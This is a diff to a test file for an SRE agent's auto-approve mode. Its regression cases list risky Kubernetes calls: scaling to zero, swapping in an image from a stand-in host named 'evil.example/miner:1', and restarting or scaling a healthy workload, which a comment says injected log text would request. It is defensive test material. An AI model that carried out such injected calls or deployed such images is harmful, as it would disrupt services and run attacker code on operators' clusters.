@@ -275,10 +275,15 @@ class _Model:
     [
         ("k8s_scale_deployment", {"namespace": "shop", "deployment": "web", "replicas": 0}),
         ("k8s_patch_image", {"namespace": "shop", "deployment": "frontend", "container": "nginx", "image": "evil.example/miner:1"}),
+        # What text injected into a log asks for: a change of a healthy workload, within every
+        # other rule; it shows no problem it fixes.
+        ("k8s_restart_deployment", {"namespace": "shop", "deployment": "frontend"}),
+        ("k8s_scale_deployment", {"namespace": "shop", "deployment": "frontend", "replicas": 1}),
     ],
 )
 def test_auto_approve_has_safe_defaults(monkeypatch, call):
-    # Regression: sre_agent.run(auto_approve=True) approved a scale to zero and a foreign image.
+    # Regression: sre_agent.run(auto_approve=True) approved a scale to zero and a foreign image,
+    # and (issue 17's scorecard) a restart or a scale of a healthy workload.
     model = _Model([call])
     monkeypatch.setenv("OPENAI_API_KEY", "sk-test")
     monkeypatch.setenv("OPENAI_BASE_URL", model.url)
